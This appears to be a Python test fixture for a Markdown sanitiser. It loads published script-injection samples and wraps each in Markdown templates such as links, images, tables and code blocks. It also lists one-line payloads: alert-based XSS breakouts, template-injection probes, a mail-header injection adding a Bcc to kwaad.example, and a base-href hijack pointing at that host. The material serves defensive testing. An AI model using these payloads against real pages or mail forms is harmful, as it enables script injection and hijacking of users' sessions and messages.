"""Published attacks on pages, and the Markdown around them."""

import json
from pathlib import Path

#: What people published to show how a script gets into a page; README.md says where each comes from.
AANVALLEN: list[str] = [
    json.loads(line) for line in (Path(__file__).parent / "aanvallen.jsonl").read_text().splitlines()
]
#: Places in Markdown where each of them is put.
LIJSTEN = {
    "as it is": "{}",
    "link": "[klik]({})",
    "link in angle brackets": "[klik](<{}>)",
    "picture": '![{}](/static/x.png "{}")',
    "reference": "[klik]\n\n[klik]: {}",
    "list": "- {}\n    - {}",
    "table": "| a | b |\n|---|---|\n| {} | {} |",
    "quote": "> {}\n\n{}",
    "code": "    {}",
    "bold and code": "**{}** `{}`",
    "heading and definition": "# {}\n\n{}\n: {}",
}
#: One line each, of a few of them together: out of an element, an attribute, a title, a script, an address, a template, a header.
REGELS = [
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(2)>",
    "</title></textarea></script><script>alert(3)</script>",
    'javascript:alert(4)//" onfocus=alert(5) autofocus x="',
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "\r\nBcc: kwaad@kwaad.example\r\n\r\n<script>alert(6)</script>",
    "' onmouseover='alert(7)' style='background:url(//kwaad.example)",
    "--></style><iframe srcdoc='<script>alert(8)</script>'>",
    '<a href="data:text/html,<script>alert(9)</script>">klik</a>',
    "&lt;script&gt;alert(10)&lt;/script&gt;&#x3C;b&#x3E;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(11)>",
    '<!--<img src="--><img src=x onerror=alert(12)//">',
    "\u202e\u2066<base href=//kwaad.example><meta http-equiv=refresh content=0>",
]
